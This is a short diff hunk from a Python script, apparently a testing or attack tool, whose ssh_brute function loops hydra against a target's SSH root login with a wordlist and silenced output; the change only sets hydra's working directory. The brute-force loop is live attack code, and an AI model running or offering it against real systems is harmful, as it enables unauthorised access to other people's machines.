@@ -637,7 +637,9 @@ def ssh_brute(prefix):
     while True:
         subprocess.run(["hydra", "-q", "-I", "-l", "root", "-P", words, "-t", "2", "-w", "5",
                         "ssh://%s" % SSH_TARGET], stdin=subprocess.DEVNULL,
-                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                       # hydra leaves its restore file in the working directory when stopped.
+                       cwd=RUN_DIR)
         sleep(2)
 
 
